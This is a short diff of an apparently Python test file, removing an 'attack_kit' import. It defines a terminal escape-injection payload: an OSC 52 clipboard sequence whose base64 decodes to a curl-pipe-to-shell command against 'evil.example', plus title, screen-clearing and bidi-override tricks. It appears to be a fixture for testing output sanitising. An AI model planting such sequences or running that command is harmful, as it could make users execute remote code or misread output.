@@ -11,7 +11,6 @@ from __future__ import annotations
 import json
 
 import pytest
-from attack_kit import lab  # noqa: F401
 
 OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
 PAYLOAD = f"hello{OSC52}\x1b]0;pwned title\x07\x1b[2J\x1b[1;1H\x9b31m\x9d0;c1 title\x9c\u202eevil\u202c\x08\x08\rX end"
